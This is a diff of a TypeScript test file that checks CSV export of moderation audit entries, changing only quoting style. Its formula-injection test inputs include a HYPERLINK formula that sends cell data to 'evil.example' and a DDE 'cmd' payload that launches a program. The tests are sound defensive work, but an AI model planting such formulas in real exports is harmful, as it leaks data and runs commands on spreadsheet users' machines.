@@ -5,7 +5,7 @@ import type { AuditEntry } from "./auditLog.ts";
 
 describe("CSV cells", () => {
   it("a cell that a spreadsheet would run as a formula starts with a quote mark and stays text", () => {
-    for (const formula of ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]) {
+    for (const formula of ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]) {
       const cell = csvCell(formula);
       const [[read]] = parseCsv(`${cell}\r\n`) as [[string]];
       expect(read).toBe(`'${formula}`);
@@ -45,7 +45,7 @@ describe("audit entries as CSV", () => {
     action: "moderation.ban",
     targetType: "device",
     targetId: "-dev-1",
-    reason: "+spam, \"links\"",
+    reason: '+spam, "links"',
     ip: "203.0.113.7",
     data: '{"reason":"+spam, \\"links\\"","minutes":60}',
   };
@@ -67,7 +67,7 @@ describe("audit entries as CSV", () => {
       "moderation.ban",
       "device",
       "'-dev-1",
-      "'+spam, \"links\"",
+      '\'+spam, "links"',
       "203.0.113.7",
       entry.data,
     ]);
